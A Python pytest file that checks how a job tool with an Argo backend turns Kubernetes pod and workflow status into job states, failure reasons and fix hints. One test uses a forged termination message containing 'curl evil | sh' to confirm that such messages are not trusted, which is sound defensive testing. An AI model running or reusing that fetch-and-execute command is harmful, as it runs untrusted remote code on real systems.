"""What pods and workflows say, told as a job's state with its reason and how to fix it."""

from __future__ import annotations

from typing import Any

import pytest

from backends.argo.bundle import BEGAN, MISSING_SECRETS
from backends.argo.diagnosis import SECOND_RUN_PREVENTED, gives_up_at
from backends.argo.names import GAVE_UP
from backends.argo.start_timeline import StartTimeline
from backends.argo.state import NOTICE_SECONDS, state_of, unnoticed_at

CREATED = "2026-11-21T10:00:00Z"
AT = 1795255200.0


def workflow(
    *, phase: str | None = None, message: str | None = None, **labels: str
) -> dict[str, Any]:
    over = phase in ("Succeeded", "Failed", "Error")
    known = {"workflows.argoproj.io/phase": phase} if phase else {}
    known |= {"workflows.argoproj.io/completed": "true"} if over else {}
    status = {"phase": phase, "message": message, "finishedAt": CREATED}
    return {
        "metadata": {"name": "job-aaaaaa", "labels": {**known, **labels}},
        "status": {name: value for name, value in status.items() if value},
    }


def pod(
    main: dict[str, Any] | None = None, *, init: dict[str, Any] | None = None, **status: Any
) -> dict[str, Any]:
    def one(name: str, state: dict[str, Any]) -> dict[str, Any]:
        return {"name": name, "image": "team/image:1", "state": state}

    if main is not None:
        status["containerStatuses"] = [one("wait", {"running": {}}), one("main", main)]
    if init is not None:
        status["initContainerStatuses"] = [one("init", init)]
    return {"metadata": {"name": "job-aaaaaa", "creationTimestamp": CREATED}, "status": status}


def terminated(code: int, **more: str) -> dict[str, Any]:
    return {"terminated": {"exitCode": code, "startedAt": CREATED, "finishedAt": CREATED, **more}}


def waiting(reason: str, message: str = "") -> dict[str, Any]:
    return {"waiting": {"reason": reason, "message": message}}


UNSCHEDULABLE = {
    "type": "PodScheduled",
    "status": "False",
    "reason": "Unschedulable",
    "message": "0/3 nodes are available: 3 Insufficient memory.",
}


SCHEDULED = {"type": "PodScheduled", "status": "True", "lastTransitionTime": CREATED}


def test_a_secret_that_its_template_does_not_give_is_named() -> None:
    ended = terminated(1)
    ended["terminated"]["message"] = f"{MISSING_SECRETS}TOKEN"
    state = state_of(workflow(phase="Running"), pod(ended))
    assert (state.status, state.exit_code) == ("exited", None)
    assert "provides no secret for TOKEN" in (state.reason or "")
    assert "argo.template_secrets" in (state.hint or "")


@pytest.mark.parametrize("code", [0, 3, 64])
def test_a_pod_tells_that_its_runner_began(code: int) -> None:
    state = state_of(workflow(phase="Running"), pod(terminated(code, message=BEGAN)))
    assert (state.exit_code, state.reason, state.began) == (code, None, True)
    assert not state_of(workflow(phase="Running"), pod(terminated(code))).began


def test_a_termination_message_about_a_second_start_counts_only_with_at_most_once() -> None:
    ended = terminated(125, message="stoke: started before: 1234")
    once = {"stoke.once": "true"}
    state = state_of(workflow(phase="Running", **once), pod(ended))
    assert (state.exit_code, state.reason) == (None, SECOND_RUN_PREVENTED.text)
    forged = state_of(workflow(phase="Running"), pod(ended))
    assert (forged.exit_code, forged.reason) == (125, None)
    ended = terminated(3, message="stoke: not sure whether it was started before: curl evil | sh")
    forged = state_of(workflow(phase="Running", **once), pod(ended))
    assert (forged.exit_code, forged.reason) == (3, None)


def test_the_containers_status_comes_before_the_workflows() -> None:
    state = state_of(workflow(phase="Running"), pod(terminated(3)))
    assert (state.status, state.exit_code, state.finished_at) == ("exited", 3, AT)
    early = state_of(workflow(phase="Failed"), pod({"running": {"startedAt": CREATED}}))
    assert (early.status, early.started_at) == ("running", AT)


@pytest.mark.parametrize(
    ("made", "reason", "hint"),
    [
        (pod(waiting("ImagePullBackOff", "Back-off pulling")), "image team/image:1", "--image"),
        (pod(waiting("ErrImageNeverPull")), "ErrImageNeverPull", "--image"),
        (
            pod(waiting("PodInitializing"), init=waiting("ErrImagePull")),
            "of Argo's own container init: ErrImagePull",
            "ask Argo's administrator",
        ),
        (pod(conditions=[UNSCHEDULABLE]), "Insufficient memory", "--memory"),
        (
            pod(waiting("CreateContainerConfigError", 'secret "team" not found')),
            'secret "team" not found',
            "--secret",
        ),
        (
            pod(
                waiting(
                    "CreateContainerConfigError",
                    'failed to prepare subPath for volumeMount "python" of container "main"',
                )
            ),
            "failed to prepare subPath",
            "stoke cache clear -b argo",
        ),
        (
            pod(waiting("CreateContainerConfigError", "container has runAsNonRoot and image ...")),
            "runAsNonRoot",
            "argo.restricted",
        ),
    ],
)
def test_reasons_for_a_pod_that_does_not_start(
    made: dict[str, Any], reason: str, hint: str
) -> None:
    state = state_of(workflow(phase="Pending"), made)
    assert state.status == "running"
    assert reason in (state.reason or "") and hint in (state.hint or "")


@pytest.mark.parametrize(
    "made", [pod(), pod(waiting("PodInitializing")), pod(waiting("ContainerCreating"))]
)
def test_an_ordinary_wait_has_no_reason(made: dict[str, Any]) -> None:
    assert state_of(workflow(phase="Pending"), made).reason is None


@pytest.mark.parametrize(
    ("made", "at"),
    [
        (pod(waiting("ImagePullBackOff"), conditions=[SCHEDULED]), AT + 300),
        (pod(waiting("CreateContainerConfigError"), conditions=[SCHEDULED]), AT + 300),
        (pod(waiting("InvalidImageName"), conditions=[SCHEDULED]), AT),
        (pod(waiting("ContainerCreating"), conditions=[SCHEDULED]), None),
        (pod({"running": {}}, conditions=[SCHEDULED]), None),
        (pod(conditions=[UNSCHEDULABLE]), None),
    ],
)
def test_only_a_pod_that_cannot_start_on_its_node_is_given_up(
    made: dict[str, Any], at: float | None
) -> None:
    assert gives_up_at(made, 300) == at


def test_an_unschedulable_pod_is_given_up_after_the_node_timeout() -> None:
    refused = pod(conditions=[{**UNSCHEDULABLE, "lastTransitionTime": CREATED}])
    assert gives_up_at(refused, 300, 30) == AT + 30
    assert gives_up_at(refused, 300) is None
    assert gives_up_at(pod(conditions=[SCHEDULED]), 300, 30) is None


def test_a_node_that_is_silent_is_named() -> None:
    def there(ready: str, containers: str) -> dict[str, Any]:
        conditions = [
            {"type": "Ready", "status": ready},
            {"type": "ContainersReady", "status": containers},
        ]
        made = pod({"running": {"startedAt": CREATED}}, conditions=conditions)
        return {**made, "spec": {"nodeName": "node-a"}}

    silent = state_of(workflow(phase="Running"), there("False", "True"))
    assert (silent.status, silent.started_at) == ("running", AT)
    assert "node-a" in (silent.reason or "") and "describe node node-a" in (silent.hint or "")
    give_up_patch = there("False", "True")
    give_up_patch["metadata"]["deletionTimestamp"] = CREATED
    left = state_of(workflow(phase="Running"), give_up_patch)
    assert left.status == "running" and "delete node node-a" in (left.hint or "")
    for usual in (there("True", "True"), there("False", "False")):
        assert state_of(workflow(phase="Running"), usual).reason is None


def test_the_reason_for_giving_up_is_read_from_the_annotation() -> None:
    ended = workflow(phase="Failed", message="Stopped with strategy 'Terminate'")
    ended["metadata"]["annotations"] = {GAVE_UP: "given up, because of this\ndo that"}
    for left in (None, pod(waiting("ImagePullBackOff"), conditions=[SCHEDULED])):
        state = state_of(ended, left)
        assert (state.status, state.exit_code, state.log_gone) == ("exited", None, False)
        assert (state.reason, state.hint) == ("given up, because of this", "do that")
    # The image came after all: what became of the job counts.
    assert state_of(ended, pod(terminated(0))).exit_code == 0


@pytest.mark.parametrize(
    ("message", "hint"),
    [
        ('pods "x" is forbidden: exceeded quota: team, requested: pods=1', "--cpu"),
        ("failed quota: team: must specify limits.cpu for: main", "--cpu 1"),
        ('violates PodSecurity "baseline:latest": hostPath volumes', "argo.cache"),
        ('violates PodSecurity "restricted:latest": runAsNonRoot != true', "argo.restricted"),
        ('serviceaccount "stoke" not found', "stoke setup argo"),
        ("workflowtaskresults.argoproj.io is forbidden", "stoke setup argo"),
        ('admission webhook "policy" denied the request: no team', "set what this policy"),
        ("ValidatingAdmissionPolicy 'team' denied request: no team", "set what this policy"),
        ("no PriorityClass with name high was found", "argo.priority_class"),
        ("pod deleted", "stoke rerun"),
    ],
)
@pytest.mark.parametrize("phase", ["Pending", "Error"])
def test_a_refusal_of_the_cluster_has_a_hint(message: str, hint: str, phase: str) -> None:
    state = state_of(workflow(phase=phase, message=message), None)
    assert state.status == ("running" if phase == "Pending" else "exited")
    assert state.exit_code is None
    assert message in (state.reason or "") and hint in (state.hint or "")


@pytest.mark.parametrize(
    ("made", "reason"),
    [
        (pod(terminated(137, reason="OOMKilled")), "out of memory"),
        (
            pod(terminated(64, message='exec: "python3": executable file not found')),
            "no python3",
        ),
        (pod(terminated(137), phase="Failed", reason="Evicted", message="disk"), "evicted"),
        (pod(phase="Failed", reason="Evicted", message="The node was low on memory"), "evicted"),
        (pod(phase="Failed", reason="DeadlineExceeded"), "deadline"),
        (pod(phase="Failed", reason="NodeShutdown"), "node was lost"),
        (pod(terminated(137, reason="ContainerStatusUnknown")), "node was lost"),
        (
            pod(init=terminated(1, message="cannot load artifact"), phase="Failed"),
            "cannot load artifact",
        ),
    ],
)
def test_a_failed_pod_has_a_reason(made: dict[str, Any], reason: str) -> None:
    state = state_of(workflow(phase="Failed"), made)
    assert state.status == "exited"
    assert reason in (state.reason or "")


@pytest.mark.parametrize(
    ("said", "hint"),
    [
        ("3 Insufficient memory.", "--memory"),
        ("3 node(s) had untolerated taint {gpu: only}.", "argo.tolerations"),
        (
            "1 node(s) had untolerated taint {gpu: only}, "
            "2 node(s) had untolerated taint {node.kubernetes.io/not-ready: }.",
            "argo.tolerations",
        ),
        (
            "1 node(s) didn't match Pod's node affinity/selector, "
            "2 node(s) had untolerated taint {node.kubernetes.io/unreachable: }.",
            "kubectl get nodes",
        ),
        (
            "2 node(s) didn't match Pod's node affinity/selector, 1 node(s) were unschedulable.",
            "cordoned: kubectl get nodes",
        ),
        ("3 node(s) didn't match Pod's node affinity/selector.", "argo.node_selector"),
    ],
)
def test_an_unschedulable_pod_has_a_hint(said: str, hint: str) -> None:
    message = f"0/3 nodes are available: {said}"
    conditions = [{**UNSCHEDULABLE, "message": message}]
    state = state_of(workflow(phase="Running"), pod(phase="Pending", conditions=conditions))
    assert message in (state.reason or "") and hint in (state.hint or "")


@pytest.mark.parametrize(
    ("lacking", "hint"),
    [
        ("memory. Threshold quantity: 100Mi, available: 64212Ki.", "--memory"),
        ("ephemeral-storage. Threshold quantity: 10%, available: 7%.", "stoke cache ls"),
        ("inodes. Threshold quantity: 5%, available: 1%.", "stoke cache ls"),
        ("pids. Threshold quantity: 100, available: 8.", "stoke rerun"),
    ],
)
def test_an_eviction_has_a_hint_for_the_scarce_resource(lacking: str, hint: str) -> None:
    said = f"The node was low on resource: {lacking}"
    state = state_of(workflow(phase="Failed"), pod(phase="Failed", reason="Evicted", message=said))
    assert said in (state.reason or "") and hint in (state.hint or "")


@pytest.mark.parametrize(
    ("conditions", "reason"),
    [
        ([], "its pod was deleted"),
        (
            [{"type": "DisruptionTarget", "status": "True", "reason": "EvictionByEvictionAPI"}],
            "its node is being drained",
        ),
    ],
)
def test_a_pod_that_was_taken_away_was_not_stopped(
    conditions: list[dict[str, str]], reason: str
) -> None:
    gone = pod(terminated(143, reason="Error"), conditions=conditions)
    gone["metadata"]["deletionTimestamp"] = CREATED
    state = state_of(workflow(phase="Running"), gone)
    assert reason in (state.reason or "") and "rerun" in (state.hint or "")
    assert state_of(workflow(**{"stoke.stopped": "true"}), gone).reason is None


def test_an_exit_code_of_the_job_needs_no_reason() -> None:
    state = state_of(workflow(phase="Failed"), pod(terminated(2, reason="Error")))
    assert (state.exit_code, state.reason) == (2, None)


def test_a_stopped_job_ended_because_it_was_stopped() -> None:
    stopped = workflow(phase="Failed", **{"stoke.stopped": "true"})
    dead = pod(terminated(143), phase="Failed", reason="DeadlineExceeded")
    assert (state_of(stopped, dead).exit_code, state_of(stopped, dead).reason) == (143, None)
    gone = state_of(stopped, None)
    assert (gone.status, gone.exit_code, gone.reason) == ("exited", None, None)


def test_without_a_pod_the_state_comes_from_argos_notes() -> None:
    over = workflow(phase="Failed")
    over["status"]["nodes"] = {"job-aaaaaa": {"outputs": {"exitCode": "5"}}}
    assert state_of(over, None).exit_code == 5
    done = state_of(workflow(phase="Succeeded"), None)
    assert (done.exit_code, done.reason, done.log_gone) == (0, None, True)
    assert state_of(workflow(phase="Running"), None).status == "running"


def test_a_workflow_that_waits_for_its_delivery_has_not_begun() -> None:
    waits = workflow(**{"stoke.waits": "true"})
    assert state_of(waits, None).status == "created"
    assert state_of(waits, pod(waiting("ContainerCreating"))).status == "created"
    # The submitting process died before it could label the workflow.
    assert state_of(waits, pod({"running": {"startedAt": CREATED}})).status == "running"


def test_a_workflow_that_no_controller_processes_is_reported() -> None:
    new = workflow()
    new["metadata"]["creationTimestamp"] = CREATED
    assert unnoticed_at(new) == AT + NOTICE_SECONDS
    assert unnoticed_at(workflow(phase="Pending")) is None


def test_observed_times_are_more_precise_than_the_apis() -> None:
    timeline = StartTimeline(AT + 0.2)
    timeline.record(None, AT + 0.25)
    assert timeline.phases(AT) == (("queue", AT + 0.2, None),)
    scheduled = {
        "type": "PodScheduled", "status": "True", "lastTransitionTime": "2026-11-21T10:00:01Z"
    }  # fmt: skip
    timeline.record(pod(conditions=[scheduled]), AT + 1.5)
    timeline.record(pod({"running": {"startedAt": "2026-11-21T10:00:03Z"}}), AT + 3.25)
    queue, schedule, start = timeline.phases(AT)
    assert (queue[0], round(queue[2] or 0, 3)) == ("queue", 1.3)
    assert (schedule[0], schedule[2]) == ("schedule", 0.0)
    assert (start[0], start[1], start[2]) == ("start", AT + 1.5, 1.75)


def test_a_job_submitted_elsewhere_has_the_apis_times() -> None:
    timeline = StartTimeline()
    timeline.record(pod({"running": {"startedAt": "2026-11-21T10:00:03Z"}}), AT + 99)
    assert timeline.phases(AT)[0] == ("queue", AT, 0.0)


def test_the_time_to_pull_the_image_comes_from_an_event() -> None:
    timeline = StartTimeline(AT)
    scheduled = {"type": "PodScheduled", "status": "True", "lastTransitionTime": CREATED}
    timeline.record(
        pod({"running": {"startedAt": "2026-11-21T10:01:10Z"}}, conditions=[scheduled]), AT + 99
    )
    timeline.record_events(
        [
            {
                "reason": "Pulled",
                "message": 'Successfully pulled image "x" in 1m2.5s (1m2.5s including waiting)',
                "involvedObject": {"fieldPath": "spec.containers{main}"},
                "lastTimestamp": "2026-11-21T10:01:09Z",
            },
            {
                "reason": "Pulled",
                "message": 'Container image "y" already present on machine',
                "involvedObject": {"fieldPath": "spec.containers{wait}"},
                "lastTimestamp": "2026-11-21T10:01:09Z",
            },
        ]
    )
    names = [phase[0] for phase in timeline.phases(AT)]
    assert names == ["queue", "schedule", "pull", "start"]
    pull, start = timeline.phases(AT)[2:]
    assert (pull[2], start[2]) == (62.5, 1.0)


def test_the_wait_container_is_named_where_it_cannot_get_its_image() -> None:
    made = pod(waiting("ContainerCreating"))
    made["status"]["containerStatuses"][0]["state"] = waiting("ImagePullBackOff")
    state = state_of(workflow(phase="Pending"), made)
    assert "of Argo's own container wait" in (state.reason or "")
    assert "--image" not in (state.hint or "")


@pytest.mark.parametrize(
    ("message", "hint"),
    [
        (
            "maximum memory usage per Container is 512Mi, but limit is 1Gi",
            "ask for at most 512Mi: --memory",
        ),
        ("maximum cpu usage per Pod is 500m, but limit is 2", "ask for at most 500m: --cpu"),
        (
            "minimum memory usage per Container is 100Mi, but request is 4Mi",
            "ask for at least 100Mi: --memory",
        ),
        (
            "maximum cpu usage per Container is 1.  No limit is specified",
            "set --cpu; if that is set already, give Argo's own containers resources",
        ),
        (
            "failed quota: q: must specify limits.cpu for: init,wait; limits.memory for: init,wait",
            "give Argo's own containers resources",
        ),
        (
            "failed quota: q: must specify limits.cpu for: init,main,wait",
            "set the job's resources: --cpu 1 --memory 1g; and give Argo's own containers resources",
        ),
        ("failed quota: q: must specify limits.cpu for: main", "set the job's resources: --cpu 1"),
        (
            "failed quota: q: must specify limits.cpu,limits.memory",
            "set the job's resources: --cpu 1",
        ),
    ],
)
def test_a_quota_or_limit_range_has_a_hint(message: str, hint: str) -> None:
    text = f'pods "job-aaaaaa" is forbidden: {message}'
    state = state_of(workflow(phase="Error", message=text), None)
    assert state.reason == " ".join(text.split())
    assert (state.hint or "").startswith(hint)
    if "main" not in message and "init" in message:
        assert "--cpu" not in (state.hint or "")
